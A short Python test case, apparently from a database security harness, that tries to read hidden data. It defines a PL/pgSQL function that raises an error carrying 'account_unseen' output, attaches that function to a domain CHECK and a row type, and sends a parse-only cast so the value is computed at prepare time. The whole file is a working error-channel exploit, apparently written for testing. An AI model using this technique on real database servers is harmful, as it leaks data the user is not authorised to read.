"""Prepares a constant of a row type with a checked column: its value is made at once."""

from attacks.frames import SYNC, ask, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(
            client,
            query(
                b"CREATE FUNCTION look(int) RETURNS bool LANGUAGE plpgsql AS"
                b" $$ BEGIN RAISE EXCEPTION '%', account_unseen($1); END $$"
            ),
        )
        ask(client, query(b"CREATE DOMAIN seen AS int CHECK (look(VALUE))"))
        ask(client, query(b"CREATE TYPE pair AS (a seen)"))
        return ask(client, parse(b"SELECT '(1)'::pair"), SYNC)
